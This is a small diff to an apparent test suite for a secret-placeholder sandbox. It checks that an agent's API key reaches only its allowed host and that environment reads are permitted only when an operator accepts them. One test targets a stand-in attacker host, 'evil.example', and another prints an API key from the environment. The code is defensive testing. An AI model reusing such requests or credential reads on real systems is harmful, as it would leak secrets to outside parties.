@@ -157,7 +157,7 @@ def test_an_operator_can_accept_in_so_many_words_that_others_read_the_environmen
         told = run(place, "import os; print(os.environ['API_KEY'])")
 
     assert told.stdout.decode().strip() == VALUE
-    assert place.values == (VALUE,)
+    assert VALUE in place.known
 
 
 @requirement(
@@ -300,7 +300,7 @@ def test_an_agent_with_a_placeholder_reaches_its_host_with_the_secret_and_no_oth
             targets = [f"http://127.0.0.1:{port}/a", f"http://localhost:{port}/b", "http://evil.example/c"]
             command = place.wrap(prepare([PYTHON, "-I", "-S", "-c", CLIENT, *targets]))
             told = await aoutput(command, timeout=200)
-            assert place.values == ()
+            assert VALUE in place.known  # since it was put into a request
         server.close()
         return told
 
